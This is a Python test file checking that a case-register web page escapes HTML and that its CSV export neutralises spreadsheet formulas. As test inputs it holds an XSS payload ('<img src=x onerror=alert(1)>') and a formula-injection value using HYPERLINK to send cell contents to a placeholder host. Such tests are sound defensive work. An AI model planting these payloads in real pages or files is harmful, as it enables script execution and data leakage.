"""A register as a table and as a file: what a record says is shown as it was written, and never runs."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from goodcatch.pages.registers_for_signed_in import HEAD, csv_of, rows_table
from goodcatch.publish.answers_for_signed_in import Told
from goodcatch.publish.registers_for_signed_in import Row

HOSTILE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://x.invalid?"&A1)'
ROW = Row(
    "NM-2026-7K3Q9F4T", "triage-0001", "Decide", "2 October 2026", "Quality lead", "open", "Medicines", "Quality lead",
    (Told("routes", "Where?", "Fix it"),), (Told("body", "Why?", "SECRET"),),
)  # fmt: skip
PLACES = ["case", "record", "step", "day", "post", "state", "domain", "owner"]
SAYS = [(Told("a", HOSTILE, "x"), "the question"), (Told("a", "x", HOSTILE), "the answer")]


def address(case: str) -> str:
    return f"/case/{case}"


@pytest.mark.parametrize("place", PLACES)
def test_nothing_of_a_row_is_run(place: str) -> None:
    text = rows_table([replace(ROW, **{place: HOSTILE})], address)
    assert "<img" not in text and "&lt;img" in text.lower()


@pytest.mark.parametrize(("told", "where"), SAYS)
def test_nothing_of_an_answer_is_run(told: Told, where: str) -> None:
    for row in (replace(ROW, coded=(told,)), replace(ROW, words=(told,))):
        text = rows_table([row], address)
        assert "<img" not in text and "&lt;img" in text, where


def test_a_column_without_anything_is_left_out() -> None:
    assert "Risk domain" in rows_table([ROW, replace(ROW, domain="")], address)
    assert "Risk domain" not in rows_table([replace(ROW, domain="")], address)


def test_each_row_leads_to_its_record() -> None:
    assert 'href="/case/NM-2026-7K3Q9F4T#triage-0001"' in rows_table([ROW], address)


def test_a_file_has_no_free_text() -> None:
    text = csv_of([ROW])
    assert "SECRET" not in text and "Why?" not in text
    assert list(csv.reader(io.StringIO(text))) == [[*HEAD, "Where?"], ["NM-2026-7K3Q9F4T", "Decide", "2 October 2026",
        "Quality lead", "open", "Medicines", "Quality lead", "Fix it"]]  # fmt: skip


@pytest.mark.parametrize("place", [place for place in PLACES if place != "record"])
def test_no_cell_is_a_formula(place: str) -> None:
    assert all(cell[:1] != "=" for row in _cells(replace(ROW, **{place: FORMULA})) for cell in row)
    assert any(cell == f"'{FORMULA}" for row in _cells(replace(ROW, **{place: FORMULA})) for cell in row)


def test_nor_is_an_answer_or_a_question() -> None:
    rows = _cells(replace(ROW, coded=(Told("a", FORMULA, FORMULA),)))
    assert [row[-1] for row in rows] == [f"'{FORMULA}", f"'{FORMULA}"]


def _cells(row: Row) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_of([row]))))


def test_rows_of_several_steps_share_their_columns() -> None:
    other = replace(ROW, step="Look", coded=(Told("x", "Which?", "This"), Told("routes", "Where?", "There")))
    assert _cells_of(ROW, other) == [["Where?", "Which?"], ["Fix it", ""], ["There", "This"]]


def _cells_of(*rows: Row) -> list[list[str]]:
    return [row[len(HEAD) :] for row in csv.reader(io.StringIO(csv_of(rows)))]
